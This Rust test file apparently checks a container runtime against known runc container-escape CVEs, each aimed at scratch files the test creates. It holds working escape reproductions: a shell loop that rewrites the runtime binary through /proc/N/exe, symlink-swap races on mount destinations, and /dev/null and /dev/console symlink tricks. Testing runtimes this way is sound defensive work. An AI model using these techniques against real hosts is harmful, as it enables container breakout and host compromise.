//! One test per known runc container-escape class, each reproducing the
//! attack against the runtime under test and failing if it succeeds.
//!
//! Every "escape" is aimed at a scratch target the test itself creates under
//! its own directory (a host file, a host directory, a private copy of the
//! runtime binary that the test runs as the runtime): a vulnerable runtime
//! damages only that scratch target, never the host.
//!
//! Races that an attacker would win with a second container sharing a mount
//! are reproduced deterministically with a createContainer hook, which runs
//! in the container's mount namespace at the point where the attacker's
//! change would land.

use conformance::*;
use serde_json::json;
use std::fs::{self, File};
use std::os::unix::fs::{symlink, PermissionsExt};
use std::path::{Path, PathBuf};
use std::process::Stdio;
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::Arc;
use std::time::Duration;

const WAIT: Duration = Duration::from_secs(10);

/// A host file holding `content`, the target a successful attack would
/// overwrite or expose.
fn scratch_file(c: &TestContainer, name: &str, content: &str) -> PathBuf {
    let p = c.base.join(name);
    fs::write(&p, content).unwrap();
    p
}

/// A host directory with one file `keep` in it.
fn scratch_dir(c: &TestContainer, name: &str) -> PathBuf {
    let d = c.base.join(name);
    fs::create_dir_all(&d).unwrap();
    fs::write(d.join("keep"), "host").unwrap();
    d
}

/// Names in a directory, sorted.
fn listing(d: &Path) -> Vec<String> {
    let mut v: Vec<String> = fs::read_dir(d).unwrap().map(|e| e.unwrap().file_name().to_string_lossy().into_owned()).collect();
    v.sort();
    v
}

/// A createContainer hook running `script` with the host's /bin/sh (it runs
/// before pivot_root, in the container's mount namespace).
fn hook(c: &mut TestContainer, script: &str) {
    c.push("/hooks/createContainer", json!({"path": "/bin/sh", "args": ["sh", "-c", script]}));
}

fn start_running(c: &TestContainer) -> i32 {
    c.create().ok();
    c.start().ok();
    c.wait_status("running", WAIT).unwrap()["pid"].as_i64().unwrap() as i32
}

/// `exec` in the foreground with stdout captured; returns (code, stdout).
fn exec_out(c: &TestContainer, args: &[&str]) -> (Option<i32>, String) {
    let out = c.base.join("exec.out");
    let io = Stdio3 { stdin: Stdio::null(), stdout: File::create(&out).unwrap(), stderr: File::create(c.base.join("exec.err")).unwrap() };
    let mut all = vec!["exec"];
    all.extend_from_slice(args);
    let o = c.rt.cmd_io(&all, io);
    (o.code, fs::read_to_string(&out).unwrap_or_default())
}

/// The container's process: scans its /proc for processes whose exe is the
/// runtime (readlink of /proc/N/exe names the copy), holds such an exe open
/// read-only, then keeps trying to reopen it for writing through
/// /proc/self/fd (which succeeds once the runtime process has exited).
const EXE_SCANNER: &str = r#"
while true; do
  for d in /proc/[0-9]*; do
    p=${d#/proc/}
    [ "$p" = "$$" ] && continue
    l=$(readlink $d/exe 2>/dev/null) || continue
    case "$l" in
    *berth-escape-copy*)
      echo "READLINK $p $l"
      if exec 3< $d/exe; then
        echo "OPENED $p"
        i=0
        while [ $i -lt 300 ]; do
          if (printf '#!/bin/sh\necho pwned\n' > /proc/self/fd/3) 2>/dev/null; then echo "WROTE $p"; break; fi
          i=$((i+1))
        done
        exec 3<&-
      fi;;
    esac
  done
done
"#;

/// CVE-2019-5736: a container process overwrites the runtime binary through
/// /proc/<pid>/exe of a runtime process that entered its pid namespace: a
/// second container created (and left in `created`) in its pid namespace,
/// whose init runs the runtime's code until `start`, and processes
/// `exec`'d into it.
#[test]
fn cve_2019_5736_runtime_binary_not_writable_through_proc_exe() {
    let mut a = TestContainer::new("esc-5736-a");
    let copy = a.base.join("berth-escape-copy");
    fs::copy(runtime_binary(), &copy).unwrap();
    fs::set_permissions(&copy, fs::Permissions::from_mode(0o755)).unwrap();
    let original = fs::read(&copy).unwrap();
    a.rt.bin = copy.clone();
    a.sh(EXE_SCANNER);
    let a_pid = start_running(&a);

    // B joins A's pid namespace; its init waits for `start` in A's view.
    let mut b = TestContainer::new("esc-5736-b");
    b.rt.bin = copy.clone();
    b.args(&["true"]);
    b.set(
        "/linux/namespaces",
        json!([{"type": "pid", "path": format!("/proc/{a_pid}/ns/pid")}, {"type": "network"}, {"type": "ipc"}, {"type": "uts"}, {"type": "mount"}, {"type": "cgroup"}]),
    );
    b.create().ok();
    let b_host = b.pid_from_file().expect("pid file");
    let status = fs::read_to_string(format!("/proc/{b_host}/status")).unwrap();
    let b_inner = status_field(&status, "NSpid").unwrap().split_whitespace().last().unwrap().to_string();
    let (_, seen) = exec_out(&a, &[&a.id, "ls", "/proc"]);
    assert!(seen.split_whitespace().any(|p| p == b_inner), "B's init ({b_inner}) must be visible to A: {seen}");
    std::thread::sleep(Duration::from_millis(1500));
    for _ in 0..15 {
        exec_out(&a, &[&a.id, "true"]);
    }
    b.start().ok();
    b.wait_status("stopped", WAIT).unwrap();
    std::thread::sleep(Duration::from_millis(500));
    a.delete_force().ok();

    let log = fs::read_to_string(&a.out_file).unwrap_or_default();
    assert!(fs::read(&copy).unwrap() == original, "the runtime binary was overwritten from the container:\n{log}");
    assert!(!log.contains("WROTE"), "the container wrote to the runtime binary:\n{log}");
    assert!(!log.contains("OPENED"), "the container opened the runtime binary through /proc/N/exe:\n{log}");
    assert!(!log.contains("READLINK"), "a runtime process in the container was dumpable (/proc/N/exe readable):\n{log}");
    drop(b);
}

/// fd number → link target of `pid`'s open descriptors, seen from the host.
fn host_fds(pid: i32) -> Vec<(i32, String)> {
    let mut v: Vec<(i32, String)> = fs::read_dir(format!("/proc/{pid}/fd"))
        .unwrap()
        .filter_map(|e| {
            let e = e.ok()?;
            let n = e.file_name().to_str()?.parse().ok()?;
            Some((n, fs::read_link(e.path()).ok()?.display().to_string()))
        })
        .collect();
    v.sort();
    v
}

/// `ls -l /proc/<shell>/fd` inside the container → descriptor numbers > 2
/// with their targets.
fn extra_fds_seen_inside(listing: &str) -> Vec<String> {
    listing
        .lines()
        .filter_map(|l| {
            let (left, target) = l.split_once(" -> ")?;
            let n: i32 = left.split_whitespace().last()?.parse().ok()?;
            (n > 2).then(|| format!("{n} -> {target}"))
        })
        .collect()
}

/// CVE-2016-9962 / CVE-2024-21626 (descriptor part): the container's process
/// and an exec'd process hold only 0, 1 and 2: nothing of the runtime's
/// (state directory, exec FIFO, sync socket, cgroup files, the rootfs).
#[test]
fn cve_2016_9962_cve_2024_21626_no_leaked_fds() {
    let mut c = TestContainer::new("esc-fds");
    // The shell lists its own descriptors through a child (ls), then waits.
    c.sh("ls -l /proc/$$/fd; exec sleep 100");
    let pid = start_running(&c);
    std::thread::sleep(Duration::from_millis(300));
    let init = host_fds(pid);
    assert_eq!(init.iter().map(|f| f.0).collect::<Vec<_>>(), [0, 1, 2], "the container's process holds extra descriptors: {init:?}");
    let inside = fs::read_to_string(&c.out_file).unwrap();
    assert!(inside.contains(" 0 -> "), "listing failed: {inside}");
    assert_eq!(extra_fds_seen_inside(&inside), Vec::<String>::new(), "leaked into the container's process");

    let (code, out) = exec_out(&c, &[&c.id, "sh", "-c", "ls -l /proc/$$/fd"]);
    assert_eq!(code, Some(0), "{out}");
    assert!(out.contains(" 0 -> "), "listing failed: {out}");
    assert_eq!(extra_fds_seen_inside(&out), Vec::<String>::new(), "leaked into an exec'd process");

    let exec_pid = c.base.join("exec.pid");
    let p = exec_pid.display().to_string();
    c.cmd(&["exec", "--detach", "--pid-file", &p, &c.id, "sleep", "100"]).ok();
    let epid: i32 = fs::read_to_string(&exec_pid).unwrap().trim().parse().unwrap();
    std::thread::sleep(Duration::from_millis(200));
    let fds = host_fds(epid);
    let root = c.rt.root.display().to_string();
    let extra: Vec<_> = fds.iter().filter(|(n, t)| *n > 2 || t.starts_with(&root) || t.contains("cgroup") || t.starts_with("socket:")).collect();
    assert_eq!(extra, Vec::<&(i32, String)>::new(), "the exec'd process holds runtime descriptors: {fds:?}");
    c.delete_force().ok();
    c.assert_no_leaks(Some(pid));
}

/// Climb 40 times from the cwd and compare with the root: a cwd outside the
/// container's root never reaches it.
const CWD_CHECK: &str = "i=0; while [ $i -lt 40 ]; do cd ..; i=$((i+1)); done; stat -c %d:%i . /";

fn cwd_is_inside(out: &str) -> bool {
    let l: Vec<&str> = out.lines().collect();
    l.len() == 2 && l[0] == l[1]
}

/// CVE-2024-21626 (cwd part): process.cwd (and `exec --cwd`) of
/// /proc/self/fd/N, N a descriptor the runtime held, must fail or land in
/// the container, never on a host directory.
#[test]
fn cve_2024_21626_cwd_through_leaked_fd_stays_inside() {
    for n in 3..=9 {
        let mut c = TestContainer::new("esc-cwd");
        c.set("/process/cwd", json!(format!("/proc/self/fd/{n}")));
        c.sh(CWD_CHECK);
        let o = c.create();
        if o.success() {
            c.start().ok();
            c.wait_status("stopped", WAIT).unwrap();
            let out = fs::read_to_string(&c.out_file).unwrap();
            assert!(cwd_is_inside(&out), "process.cwd /proc/self/fd/{n} is outside the root: {out}");
        }
    }
    let mut c = TestContainer::new("esc-cwd-exec");
    c.args(&["sleep", "100"]);
    let pid = start_running(&c);
    for n in 3..=9 {
        let cwd = format!("/proc/self/fd/{n}");
        let (code, out) = exec_out(&c, &["--cwd", &cwd, &c.id, "sh", "-c", CWD_CHECK]);
        if code == Some(0) {
            assert!(cwd_is_inside(&out), "exec --cwd {cwd} is outside the root: {out}");
        }
    }
    c.delete_force().ok();
    c.assert_no_leaks(Some(pid));
}

/// CVE-2021-30465 / CVE-2023-28642 (static form): mount destinations
/// through symlinks in the image that point at a host directory, absolute
/// and `../` forms, land inside the rootfs.
#[test]
fn cve_2021_30465_symlinked_mount_destinations_stay_inside() {
    let mut c = TestContainer::new("esc-mntlink");
    let target = scratch_dir(&c, "host-target");
    let before = listing(&target);
    let t = target.display().to_string();
    let rootfs = c.bpath("rootfs");
    symlink(&target, rootfs.join("evil-abs")).unwrap();
    symlink(format!("../../../../../../../../..{t}"), rootfs.join("evil-rel")).unwrap();
    let src = scratch_dir(&c, "bind-src");
    fs::write(src.join("marker"), "inside\n").unwrap();
    c.push("/mounts", json!({"destination": "/evil-abs/m1", "type": "tmpfs", "source": "tmpfs"}));
    c.push("/mounts", json!({"destination": "/evil-rel/m2", "type": "tmpfs", "source": "tmpfs"}));
    c.push("/mounts", json!({"destination": "/evil-abs/b3", "type": "bind", "source": src, "options": ["rbind"]}));
    let host_mounts = mounts_under(&target);
    let out = c.run_sh(&format!("cat {t}/b3/marker; grep -c ' {t}/m[12] ' /proc/self/mountinfo"));
    assert_eq!(listing(&target), before, "a mount destination was created on the host through a symlink");
    assert_eq!(mounts_under(&target), host_mounts);
    assert_eq!(out.lines().collect::<Vec<_>>(), ["inside", "2"], "the mounts must be inside the rootfs under {t}");
}

/// Exchange two paths atomically (renameat2 RENAME_EXCHANGE).
fn exchange(a: &Path, b: &Path) {
    let ca = std::ffi::CString::new(a.as_os_str().as_encoded_bytes()).unwrap();
    let cb = std::ffi::CString::new(b.as_os_str().as_encoded_bytes()).unwrap();
    // SAFETY: both are NUL-terminated paths that outlive the call.
    unsafe { libc::syscall(libc::SYS_renameat2, libc::AT_FDCWD, ca.as_ptr(), libc::AT_FDCWD, cb.as_ptr(), libc::RENAME_EXCHANGE) };
}

/// CVE-2021-30465 (race form): while `create` runs, a helper keeps swapping
/// the directory a mount goes into with a symlink to a host directory.
/// Nothing may be created or mounted in that host directory.
#[test]
fn cve_2021_30465_racing_symlink_swap_never_mounts_outside() {
    let mut c = TestContainer::new("esc-race");
    let target = scratch_dir(&c, "host-target");
    let before = listing(&target);
    let rootfs = c.bpath("rootfs");
    fs::create_dir(rootfs.join("race")).unwrap();
    symlink(&target, rootfs.join("race-link")).unwrap();
    c.args(&["true"]);
    for i in 0..6 {
        c.push("/mounts", json!({"destination": format!("/race/m{i}"), "type": "tmpfs", "source": "tmpfs"}));
    }
    c.write_config();
    let host_mounts = mounts_under(&target);
    let stop = Arc::new(AtomicBool::new(false));
    let swapper = {
        let stop = stop.clone();
        let (a, b) = (rootfs.join("race"), rootfs.join("race-link"));
        std::thread::spawn(move || {
            while !stop.load(Ordering::Relaxed) {
                exchange(&a, &b);
            }
        })
    };
    for _ in 0..10 {
        // Failing is fine; mounting outside is not.
        let _ = c.create_with(&[]);
        c.delete_force();
        assert_eq!(listing(&target), before, "create made entries in the host directory through the swapped symlink");
        assert_eq!(mounts_under(&target), host_mounts);
    }
    stop.store(true, Ordering::Relaxed);
    swapper.join().unwrap();
}

/// CVE-2019-16884: /proc in the image is a symlink to a directory that
/// holds a bind of a host directory shaped like /proc/sys; proc must be
/// mounted inside the rootfs and a sysctl must not reach the host file.
#[test]
fn cve_2019_16884_proc_symlink_cannot_redirect_proc_writes() {
    let mut c = TestContainer::new("esc-proclink");
    let fake = scratch_dir(&c, "fake-proc");
    fs::create_dir_all(fake.join("sys/net/ipv4")).unwrap();
    fs::write(fake.join("sys/net/ipv4/ip_forward"), "host\n").unwrap();
    let rootfs = c.bpath("rootfs");
    fs::remove_dir(rootfs.join("proc")).unwrap();
    fs::create_dir(rootfs.join("fakeproc")).unwrap();
    symlink("/fakeproc", rootfs.join("proc")).unwrap();
    c.remove("/mounts/0");
    let mut mounts = c.config["mounts"].as_array().unwrap().clone();
    mounts.insert(0, json!({"destination": "/fakeproc", "type": "bind", "source": fake, "options": ["rbind", "rw"]}));
    mounts.insert(1, json!({"destination": "/proc", "type": "proc", "source": "proc"}));
    c.set("/mounts", json!(mounts));
    c.set("/linux/sysctl", json!({"net.ipv4.ip_forward": "1"}));
    c.args(&["cat", "/proc/sys/net/ipv4/ip_forward"]);
    c.create();
    c.start();
    let _ = c.wait_status("stopped", WAIT);
    assert_eq!(fs::read_to_string(fake.join("sys/net/ipv4/ip_forward")).unwrap(), "host\n", "a sysctl write went to the host through the /proc symlink");
    assert_eq!(mounts_under(&fake), Vec::<String>::new());
}

/// CVE-2025-31133: the container swaps /dev/null for a symlink to a host
/// file (bound into the container) before masking: masking must not bind
/// that file over a masked path (which would expose it read-write).
#[test]
fn cve_2025_31133_masked_path_with_dev_null_symlink() {
    if skip_for("runc version 1.1", "CVE-2025-31133: runc before 1.2.8 binds whatever /dev/null points to over masked paths") {
        return;
    }
    let mut c = TestContainer::new("esc-devnull");
    let secret = scratch_file(&c, "host-secret", "host-secret\n");
    fs::write(c.bpath("rootfs/masked-file"), "original\n").unwrap();
    c.push("/mounts", json!({"destination": "/hostfile", "type": "bind", "source": secret, "options": ["bind", "rw"]}));
    c.push("/linux/maskedPaths", json!("/masked-file"));
    let r = c.bpath("rootfs").display().to_string();
    hook(&mut c, &format!("rm -f {r}/dev/null && ln -s /hostfile {r}/dev/null"));
    c.sh("cat /masked-file; echo pwned > /masked-file");
    c.create();
    c.start();
    let _ = c.wait_status("stopped", WAIT);
    let out = fs::read_to_string(&c.out_file).unwrap_or_default();
    assert_eq!(fs::read_to_string(&secret).unwrap(), "host-secret\n", "the container wrote the host file through a masked path");
    assert!(!out.contains("host-secret"), "a masked path exposed the host file: {out}");
}

/// CVE-2025-52565: with a terminal, the container swaps the /dev/console
/// placeholder for a symlink to a host file (bound into the container): the
/// pty must not be mounted over that attacker-chosen path.
#[test]
fn cve_2025_52565_dev_console_symlink() {
    if skip_for("runc version 1.1", "CVE-2025-52565: runc before 1.2.8 mounts the console onto whatever /dev/console points to") {
        return;
    }
    let mut c = TestContainer::new("esc-console");
    let secret = scratch_file(&c, "host-secret", "host-secret\n");
    let results = scratch_dir(&c, "results");
    c.push("/mounts", json!({"destination": "/hostfile", "type": "bind", "source": secret, "options": ["bind", "rw"]}));
    c.push("/mounts", json!({"destination": "/results", "type": "bind", "source": results, "options": ["bind", "rw"]}));
    let r = c.bpath("rootfs").display().to_string();
    hook(&mut c, &format!("rm -f {r}/dev/console && ln -s /hostfile {r}/dev/console"));
    c.set("/process/terminal", json!(true));
    c.sh("{ grep -c ' /hostfile ' /proc/self/mountinfo; cat /hostfile; } > /results/out 2>&1");
    c.write_config();
    let sock = ConsoleSocket::listen(&c.base.join("console.sock"));
    let s = sock.path.display().to_string();
    let created = c.create_with(&["--console-socket", &s]).success();
    if created {
        let master = sock.master(WAIT).ok();
        c.start();
        let _ = c.wait_status("stopped", WAIT);
        drop(master);
        let out = fs::read_to_string(results.join("out")).unwrap_or_default();
        assert_eq!(out, "1\nhost-secret\n", "the console was mounted over the symlink's target");
    }
    assert_eq!(fs::read_to_string(&secret).unwrap(), "host-secret\n");
}

/// CVE-2025-52881: a sysctl write redirected by a mount over /proc/sys
/// (here a bind of a host directory shaped like /proc/sys/net) must not
/// reach the host file.
#[test]
fn cve_2025_52881_sysctl_write_not_redirected_by_mount() {
    let mut c = TestContainer::new("esc-sysctl");
    let fake = scratch_dir(&c, "fake-net");
    fs::create_dir_all(fake.join("ipv4")).unwrap();
    fs::write(fake.join("ipv4/ip_forward"), "host\n").unwrap();
    c.push("/mounts", json!({"destination": "/proc/sys/net", "type": "bind", "source": fake, "options": ["rbind", "rw"]}));
    c.set("/linux/sysctl", json!({"net.ipv4.ip_forward": "1"}));
    c.args(&["true"]);
    c.create();
    c.start();
    let _ = c.wait_status("stopped", WAIT);
    assert_eq!(fs::read_to_string(fake.join("ipv4/ip_forward")).unwrap(), "host\n", "the sysctl was written to a host file through a mount over /proc/sys");
}

/// Every file under `dir` (recursively) whose mode lets group or others
/// write, or (for the container's directory) read.
fn loose_modes(dir: &Path, out: &mut Vec<String>) {
    use std::os::unix::fs::MetadataExt;
    for e in fs::read_dir(dir).unwrap().flatten() {
        let md = fs::symlink_metadata(e.path()).unwrap();
        if md.file_type().is_symlink() {
            continue;
        }
        if md.mode() & 0o022 != 0 {
            out.push(format!("{} {:o}", e.path().display(), md.mode() & 0o7777));
        }
        if md.is_dir() {
            loose_modes(&e.path(), out);
        }
    }
}

/// Hardening behind the escapes above: the container's state directory is
/// private (0700) and nothing the runtime creates in its root (state, exec
/// FIFO, lock, caches) is group- or world-writable, so no other host user can
/// feed the runtime a state file or open the start gate.
#[test]
fn state_dir_private_and_nothing_world_writable() {
    if skip_for("runc version 1.1", "runc creates its state directory 0711 and exec.fifo 0622") {
        return;
    }
    use std::os::unix::fs::MetadataExt;
    let mut c = TestContainer::new("esc-modes");
    c.args(&["true"]);
    c.create().ok();
    let dir = c.rt.root.join(&c.id);
    assert_eq!(fs::metadata(&dir).unwrap().mode() & 0o777, 0o700, "{}", dir.display());
    let mut loose = Vec::new();
    loose_modes(&c.rt.root, &mut loose);
    assert_eq!(loose, Vec::<String>::new(), "group/world-writable files in the runtime's root");
    c.delete_force().ok();
}
